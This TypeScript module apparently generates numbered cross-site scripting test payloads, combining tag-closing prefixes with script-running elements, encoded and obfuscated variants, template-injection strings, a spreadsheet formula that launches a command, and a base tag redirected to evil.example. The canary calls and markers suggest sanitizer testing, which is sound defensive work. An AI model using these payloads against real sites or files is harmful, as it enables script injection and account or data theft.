/** What ends the place that a text may stand in. */
const endings = [
  "",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "-->",
  "</style>",
  "</bdi></p>",
  "</option></select>",
  "]]>",
  "</noscript>",
  "\\\"'`>",
];

/** What runs once it is in a page; RAN is the call, and every element is marked. */
const elements = [
  "<script data-planted>RAN</script>",
  "<img data-planted src=x onerror=RAN>",
  "<svg data-planted onload=RAN>",
  "<svg/onload=RAN data-planted><animate onbegin=RAN attributeName=x>",
  '<iframe data-planted srcdoc="<script>parent.RAN</script>"></iframe>',
  "<iframe data-planted src=javascript:parent.RAN></iframe>",
  "<details data-planted open ontoggle=RAN>",
  "<input data-planted autofocus onfocus=RAN>",
  "<video data-planted><source onerror=RAN></video>",
  "<object data-planted data=javascript:RAN></object>",
  "<math><mtext><table><mglyph><style><img data-planted src=x onerror=RAN>",
  '<form data-planted><button formaction="javascript:RAN">x</button></form>',
];

/** What runs without an element of its own, in an attribute, an address, a script or a template. */
const others = [
  '" onfocus=RAN autofocus data-planted x="',
  "' onmouseover=RAN data-planted x='",
  '" style=animation-name:x onanimationstart=RAN data-planted "',
  "x onerror=RAN data-planted=",
  "javascript:RAN",
  "JaVaScRiPt:RAN",
  "java\tscript:RAN",
  "\u0001javascript:RAN",
  " javascript:RAN",
  "javascript://x%0aRAN",
  "javascript:RAN//http://a.example",
  'http://a.example/" onclick=RAN x="',
  "data:text/html,<script>RAN</script>",
  "vbscript:RAN",
  "view-source:javascript:RAN",
  "//RAN",
  '";RAN//',
  "';RAN//",
  "`;RAN//",
  "\\';RAN//",
  "</script><!--<script>RAN",
  "\u2028RAN\u2029",
  "\\u003cscript data-planted\\u003eRAN\\u003c/script\\u003e",
  "%3Cscript data-planted%3ERAN%3C/script%3E",
  "&lt;script data-planted&gt;RAN&lt;/script&gt;",
  "&#60;img data-planted src=x onerror=RAN&#62;",
  "＜script data-planted＞RAN＜/script＞",
  "+ADw-script data-planted+AD4-RAN+ADw-/script+AD4-",
  "{{constructor.constructor('RAN')()}}",
  ["$", "{RAN}"].join(""),
  "#{RAN}",
  "<%= RAN %>",
  "{% RAN %}",
  "__proto__",
  '{"__html":"<img data-planted src=x onerror=RAN>"}',
  '","__html":"<script>RAN</script>',
  "\u202e<script data-planted>RAN</script>\u202c",
  '\u2066"><img data-planted src=x onerror=RAN>\u2069',
  "سيرة\u200f<img data-planted src=x onerror=RAN>ذاتية",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("javascript:RAN")',
  "<base data-planted href=//evil.example/>",
  "<meta data-planted http-equiv=refresh content=0;url=javascript:RAN>",
];

/** That many payloads, each of which calls ran(NUMBER) wherever it runs. */
export function payloads(count: number): string[] {
  const crossed = endings.flatMap((ending) => elements.map((element) => ending + element));
  const turns = Array.from({ length: crossed.length }, (_, turn) => turn);
  const all = turns.flatMap((turn) => [crossed[turn] ?? "", ...others.slice(turn, turn + 1)]);
  return Array.from({ length: count }, (_, turn) =>
    (all[turn % all.length] ?? "").replaceAll("RAN", `ran(${turn})`),
  );
}
